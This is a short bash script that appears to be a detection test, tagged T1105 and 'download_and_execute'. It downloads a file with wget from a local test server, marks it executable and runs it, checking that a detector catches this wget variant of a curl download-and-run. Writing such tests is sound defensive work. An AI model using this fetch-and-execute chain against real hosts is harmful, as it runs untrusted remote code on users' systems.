# technique: T1105 the same download with wget (it opens its output before it connects)
# rule: download_and_execute
# evasion-of: 100_curl_download_run
# exe: /tmp/vg-attacks-*/tool
. "$(dirname "$0")/common.bash"
fetchable tool
serve_dir "$VG_TMP/www"
wget -q -O "$VG_TMP/tool" "http://127.0.0.1:$VG_PORT/tool"
chmod +x "$VG_TMP/tool"
"$VG_TMP/tool"
